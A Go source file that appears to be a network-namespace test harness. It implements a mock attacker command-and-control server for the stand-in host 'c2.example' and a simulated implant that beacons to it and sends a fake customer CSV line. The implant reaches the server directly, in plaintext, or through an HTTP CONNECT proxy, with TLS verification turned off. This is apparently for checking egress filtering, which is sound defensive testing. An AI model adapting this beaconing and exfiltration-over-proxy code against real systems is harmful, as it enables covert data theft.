package main

import (
	"bufio"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"
)

// The actors of the story are programs of their own, because each lives in a
// namespace of its own. They end when their input does.

// outsideMain is the attacker's server: it counts what it is sent by the
// address it comes from, over TLS on 443 and in clear on 8443, and sends every
// line back. It answers each line of its input with the counts.
func outsideMain() {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		panic(err)
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), DNSNames: []string{"c2.example"}, NotAfter: time.Now().Add(24 * time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		panic(err)
	}
	s := &outside{seen: map[string]int{}}
	plain, err := net.Listen("tcp", ":8443")
	if err != nil {
		panic(err)
	}
	secret, err := tls.Listen("tcp", ":443", &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}})
	if err != nil {
		panic(err)
	}
	go func() { // where somebody comes from, as a canary tells it
		panic(http.ListenAndServe(":8081", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			host, _, _ := net.SplitHostPort(r.RemoteAddr)
			fmt.Fprintln(w, host)
		})))
	}()
	go s.serve(plain)
	go s.serve(secret)
	answerLines(func(string) map[string]int { return s.counts() })
}

type outside struct {
	mu   sync.Mutex
	seen map[string]int // "beacon 11.0.1.1", "csv 11.0.1.1"
}

func (s *outside) counts() map[string]int {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := map[string]int{}
	for k, v := range s.seen {
		out[k] = v
	}
	return out
}

func (s *outside) serve(l net.Listener) {
	for {
		conn, err := l.Accept()
		if err != nil {
			return
		}
		go func() {
			defer conn.Close()
			from, _, _ := net.SplitHostPort(conn.RemoteAddr().String())
			in := bufio.NewScanner(conn)
			for in.Scan() {
				what, _, _ := strings.Cut(in.Text(), ",")
				s.mu.Lock()
				s.seen[what+" "+from]++
				s.mu.Unlock()
				if _, err := fmt.Fprintln(conn, in.Text()); err != nil {
					return
				}
			}
		}()
	}
}

// answerLines answers every line of the input with a line of JSON.
func answerLines(answer func(line string) map[string]int) {
	in, out := bufio.NewScanner(os.Stdin), json.NewEncoder(os.Stdout)
	for in.Scan() {
		if out.Encode(answer(in.Text())) != nil {
			return
		}
	}
}

// malwareMain is what the attacker has put on a machine. Its arguments are ways
// out: proxy:HOST:PORT, direct (TLS to the attacker's address) or plain (another
// port, without TLS). It is told:
//
//	open     open a session over each way            answers with those that stand
//	beacon   say something in each and wait for echo answers with those that live
//	csv      send the file: in a session that lives, else over a new one
func malwareMain() {
	m := &malware{live: map[string]net.Conn{}}
	answerLines(func(line string) map[string]int {
		out := map[string]int{}
		for _, way := range os.Args[1:] {
			if m.do(line, way) {
				out[way] = 1
			}
		}
		return out
	})
}

type malware struct{ live map[string]net.Conn }

func (m *malware) do(what, way string) bool {
	conn := m.live[way]
	if conn == nil && what != "beacon" {
		var err error
		if conn, err = dialOut(way); err != nil {
			return false
		}
		m.live[way] = conn
	}
	if conn == nil {
		return false
	}
	line := map[string]string{"open": "beacon,", "beacon": "beacon,", "csv": "csv,customer,surname,passport"}[what]
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := fmt.Fprintln(conn, line); err == nil {
		if _, err := io.ReadFull(conn, make([]byte, len(line)+1)); err == nil {
			return true
		}
	}
	_ = conn.Close()
	delete(m.live, way)
	return false
}

// c2 is the attacker's server.
const c2 = "11.99.0.10"

func dialOut(way string) (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second}
	to, viaProxy := strings.CutPrefix(way, "proxy:")
	switch {
	case way == "plain":
		return d.Dial("tcp", c2+":8443")
	case !viaProxy:
		to = c2 + ":443"
	}
	conn, err := d.Dial("tcp", to)
	if err != nil {
		return nil, err
	}
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	if viaProxy {
		var head [1024]byte
		if _, err = fmt.Fprint(conn, "CONNECT c2.example:443 HTTP/1.1\r\nHost: c2.example:443\r\n\r\n"); err == nil {
			var n int
			if n, err = conn.Read(head[:]); err == nil && !strings.HasPrefix(string(head[:n]), "HTTP/1.1 200 ") {
				err = fmt.Errorf("the proxy says %.12q", head[:n])
			}
		}
	}
	if err == nil {
		secret := tls.Client(conn, &tls.Config{ServerName: "c2.example", InsecureSkipVerify: true}) // malware does not care
		if err = secret.Handshake(); err == nil {
			return secret, nil
		}
	}
	_ = conn.Close()
	return nil, err
}
